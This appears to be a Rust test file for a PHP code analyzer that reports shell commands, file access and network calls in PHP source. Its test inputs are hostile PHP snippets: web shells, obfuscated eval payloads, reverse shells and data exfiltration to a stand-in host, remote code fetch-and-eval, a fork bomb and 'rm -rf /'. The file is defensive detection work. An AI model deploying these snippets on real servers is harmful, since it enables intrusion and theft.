//! PHP.

use super::check_in;
use aegish_code_parsers::language::Language::Php;

#[test]
fn commands_are_found_in_every_spelling() {
    check_in(
        Php,
        &[
            ("system('id');", &["shell id"]),
            ("echo shell_exec(\"ls -l\");", &["shell ls -l"]),
            ("echo `id`;", &["shell id"]),
            ("@passthru('id');", &["shell id"]),
            ("SYSTEM('id');", &["shell id"]),
            ("\\system('id');", &["shell id"]),
            ("$r=array(); exec('id', $r); print(join(\"\\n\",$r));", &["shell id"]),
            ("$h=@popen('id','r');", &["shell id"]),
            ("pcntl_exec('/bin/sh', ['-p']);", &["argv /bin/sh|-p"]),
            ("$f='sys'.'tem'; $f('id');", &["shell id"]),
            ("call_user_func('system','id');", &["shell id"]),
            ("array_map('system', ['id']);", &["shell id"]),
            ("('sys'.'tem')('id');", &["shell id"]),
            ("eval(base64_decode('ZWNobyAxOw=='));", &["print 1"]),
            ("eval(gzinflate(base64_decode('S03OyFcwtAYA')));", &["print 1"]),
            ("eval(str_rot13('rpub 1;'));", &["print 1"]),
            ("system(strrev('di'));", &["shell id"]),
            ("$c='id'; system(\"$c -u\");", &["shell id -u"]),
            ("$c='id'; system(\"{$c} -u\");", &["shell id -u"]),
            ("system($_GET['c']);", &["received"]),
            ("<?php system('id'); ?>", &["shell id"]),
            ("<html><?= `id` ?></html>", &["shell id"]),
            ("include '/srv/x.php';", &["script php /srv/x.php"]),
            ("include('http://h.example/x');", &["fetch http://h.example/x", "received"]),
            ("system(getenv('TARGET'));", &["shell /srv/data.bin"]),
            ("system($argv[1]);", &["shell first-arg"]),
            ("posix_setuid(0); system('/bin/sh -i');", &["user 0", "shell /bin/sh -i"]),
            ("function r($c) { system($c); } r('id');", &["shell id"]),
            ("foreach (['id','who'] as $c) system($c);", &["shell id", "shell who"]),
            ("system(<<<X\necho hi\nX);", &["shell echo hi"]),
            ("$x=create_function('$a','system($a);'); $x('id');", &["shell id"]),
            ("while(true) { pcntl_fork(); }", &["exhaust"]),
        ],
    );
}

#[test]
fn files_and_connections() {
    check_in(
        Php,
        &[
            ("readfile('/etc/hosts');", &["read /etc/hosts"]),
            ("echo file_get_contents(\"/etc/hosts\");", &["read /etc/hosts"]),
            ("file_put_contents('/tmp/x', 'DATA');", &["write /tmp/x <- DATA"]),
            ("file_put_contents('/tmp/x', 'DATA', FILE_APPEND);", &["append /tmp/x <- DATA"]),
            ("$f=fopen('/tmp/x','w'); fwrite($f,'DATA');", &["write /tmp/x <- DATA"]),
            ("unlink('/tmp/x'); chmod('/tmp/y', 04755);", &["delete /tmp/x", "mode 4755 /tmp/y"]),
            (
                "$c=file_get_contents('http://h.example/x'); file_put_contents('/tmp/x', $c);",
                &["fetch http://h.example/x", "write /tmp/x <- ‹received›"],
            ),
            (
                "eval(file_get_contents('http://h.example/x'));",
                &["fetch http://h.example/x", "received"],
            ),
            (
                "$sock=fsockopen('h.example',99);exec('/bin/sh -i <&3 >&3 2>&3');",
                &["connect h.example 99", "attach", "shell /bin/sh -i <&3 >&3 2>&3"],
            ),
            (
                "$s=fsockopen('h.example',99);proc_open('sh',[$s,$s,$s],$p);",
                &["connect h.example 99", "attach", "shell sh"],
            ),
            (
                "$s=fsockopen('tcp://h.example',99); while($c=fgets($s)) { echo shell_exec($c); }",
                &["connect tcp://h.example 99", "received"],
            ),
            ("$s=stream_socket_client('tcp://h.example:99');", &["connect h.example 99"]),
            (
                "putenv('LD_PRELOAD=/tmp/x.so'); mail('a','b','c');",
                &["setenv LD_PRELOAD=/tmp/x.so"],
            ),
        ],
    );
}

#[test]
fn harmless_look_alikes_give_nothing() {
    check_in(
        Php,
        &[
            ("echo 'system(1)';", &["print system(1)"]),
            ("// system('x')\n# exec('y')\n/* eval(1) */ echo 1;", &["print 1"]),
            ("echo PHP_VERSION;", &[]),
            ("phpinfo();", &[]),
            ("$db->exec('SELECT 1');", &[]),
            ("$pdo = new PDO('sqlite::memory:'); $pdo->exec(\"CREATE TABLE x(y)\");", &[]),
            ("echo json_encode(['system'=>1]);", &[]),
            ("echo date('Y-m-d');", &[]),
            ("<b>system('x')</b>", &["print <b>system('x')</b>"]),
            ("echo base64_decode('aGVsbG8=');", &["print hello"]),
        ],
    );
}

#[test]
fn names_are_followed_through_classes_maps_and_directories() {
    check_in(
        Php,
        &[
            ("chdir('/srv');readfile('data');", &["read /srv/data"]),
            ("include '/srv/data';", &["script php /srv/data"]),
            (
                "class A{public $p='/srv/data';function __destruct(){readfile($this->p);}}new A;",
                &["read /srv/data"],
            ),
            ("extract(['p'=>'/srv/data']);readfile($p);", &["read /srv/data"]),
            (
                "$d=new DirectoryIterator('/srv');foreach($d as $f)readfile($f->getPathname());",
                &["list /srv", "read /srv/*"],
            ),
            ("symlink('/srv','e');", &["link /srv <- e"]),
            ("array_filter(['id'],'system');", &["shell id"]),
            ("(new ReflectionFunction('system'))->invoke('id');", &["shell id"]),
            ("$x = function($c) { return `$c`; }; $x('id');", &["shell id"]),
            ("assert($x > 0);", &[]),
            ("array_map('unlink', glob('/srv/*'));", &["list /srv/*", "delete /srv/*"]),
        ],
    );
}

#[test]
fn every_construct_of_the_language_is_followed() {
    check_in(
        Php,
        &[
            (
                "if ($argc > 9): $t = '/'; else: $t = 'build'; endif; system('rm -rf ' . $t);",
                &["shell rm -rf /", "shell rm -rf build"],
            ),
            ("#[Foo('a')] function f() { system('id'); } f();", &["shell id"]),
            (
                "$a = ['x' => new class { public $y = 'id'; }]; system(\"{$a['x']->y} -u\");",
                &["shell id -u"],
            ),
            ("$name = 'id'; system(\"${name}\");", &["shell id"]),
            ("$ab = 'id'; system(\"${'a' . 'b'}\");", &["shell id"]),
            ("$x = 'c'; $$x = 'id'; system($c);", &["shell id"]),
            ("class A { function m($c) { system($c); } } [new A, 'm']('id');", &["shell id"]),
            (
                "class A { static function m($c) { system($c); } } $c = 'A'; $c::m('id'); 'A::m'('who');",
                &["shell id", "shell who"],
            ),
            (
                "class A { function __construct(string $c) { exec($c); } } $n = 'A'; new $n('id');",
                &["shell id"],
            ),
            ("$s = <<<'X'\n  id\n  X; system($s);", &["shell id"]),
            (
                "list('a' => $p, 'b' => list(, $q)) = ['a' => 'x', 'b' => [1, 'id']]; system($q);",
                &["shell id"],
            ),
            ("function f(&$x) { $x = 'id'; } f($y); system($y);", &["shell id"]),
            ("$a = ['x' => 'id']; $b = $a; $b['x'] = 'who'; system($a['x']);", &["shell id"]),
            ("function g() { yield 'id'; } foreach (g() as $c) system($c);", &["shell id"]),
            ("$f = fn($c) => system($c); $f(...['id']);", &["shell id"]),
            (
                "switch (2) { case 1: $c = 'who'; break; case 2: $c = 'id'; } system($c);",
                &["shell id"],
            ),
            ("system(match (true) { default => 'id' });", &["shell id"]),
            ("goto end; end: system('id');", &["shell id", "hidden"]),
            ("system('id'); __halt_compiler(); system('who');", &["shell id"]),
            ("function f() { static $c = 'id'; return $c; } system(f());", &["shell id"]),
            ("namespace A\\B; function f($c) { \\system($c); } \\A\\B\\f('id');", &["shell id"]),
            ("define('C', 'id'); system(constant('C'));", &["shell id"]),
            ("assert('system(\"id\")');", &["shell id"]),
            ("preg_replace('/x/e', 'system(\"id\")', 'x');", &["shell id"]),
            ("register_shutdown_function('system', 'id');", &["shell id"]),
            ("usort($a, 'system'); set_error_handler(fn() => system('id'));", &["shell id"]),
            ("$x = ('s' . 'ystem') ^ '      '; $x = $x ^ '      '; $x('id');", &["shell id"]),
            ("eval($_POST['c']);", &["received"]),
            ("$_GET['f']($_GET['c']);", &["received"]),
            ("eval(file_get_contents('php://input'));", &["received"]),
            (
                "include 'php://filter/convert.base64-decode/resource=/srv/x';",
                &["script php /srv/x"],
            ),
            ("file_get_contents('expect://id');", &["shell id"]),
            ("mail('a', 'b', 'c', '', '-X/srv/x.php');", &["shell sendmail -t -i -X/srv/x.php"]),
            (
                "$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'http://h.example/x'); eval(curl_exec($c));",
                &["fetch http://h.example/x", "received"],
            ),
            (
                "(new ReflectionClass('A'))->newInstance('id'); class A { function __construct($c) { system($c); } }",
                &["shell id"],
            ),
            (
                "class A { public $c; function __destruct() { system($this->c); } } unserialize('O:1:\"A\":1:{s:1:\"c\";s:2:\"id\";}');",
                &["shell id"],
            ),
            (
                "file_get_contents('http://h.example', false, stream_context_create(['http' => ['content' => file_get_contents('/etc/hosts')]]));",
                &[
                    "read /etc/hosts",
                    "send http://h.example <- /etc/hosts",
                    "fetch http://h.example",
                ],
            ),
            ("$a = 'id'; $b = &$a; unset($b); system($a);", &["shell id"]),
            ("$a = ['x' => 'ls']; unset($a['x']); system($a['x'] ?? 'id');", &["shell id"]),
            ("class A { const D = 'i'; const F = self::D . 'd'; } system(A::F);", &["shell id"]),
            (
                "try { throw new Exception('id'); } catch (Exception $e) { system($e->getMessage()); }",
                &["shell id"],
            ),
            (
                "class E extends RuntimeException {} try { throw new E('id'); } catch (E $e) { system($e->getMessage()); }",
                &["shell id"],
            ),
            ("$o = new stdClass; $o->{'a' . 'b'} = 'id'; system($o->ab);", &["shell id"]),
        ],
    );
}

#[test]
fn text_that_is_no_php_is_not_taken_for_harmless() {
    check_in(
        Php,
        &[
            ("system('id'; }", &["hidden"]),
            ("<?php $a = ; $b = 1; system('id');", &["shell id", "hidden"]),
            ("<? system('id'); ?>", &["shell id"]),
            ("// <?php system('id');", &["shell id"]),
            ("'open", &["hidden"]),
        ],
    );
}

#[test]
fn deep_nesting_neither_overflows_nor_takes_long() {
    for piece in [
        "(",
        "[",
        "{",
        "f(",
        "!",
        "$a[",
        "\"{$a",
        "<<<A\n",
        "function(){",
        "class{",
        "$$",
        "-",
        "@",
        "new ",
        "?",
        "a?",
        "/*",
        "->",
    ] {
        let code = piece.repeat(10_000);
        let around = aegish_code::CodeContext::alone(&|_| None, &[]);
        let before = std::time::Instant::now();
        let _ = aegish_code::follow(Php, &code, &around);
        assert!(before.elapsed().as_millis() < 1000, "{piece}: {:?}", before.elapsed());
    }
}
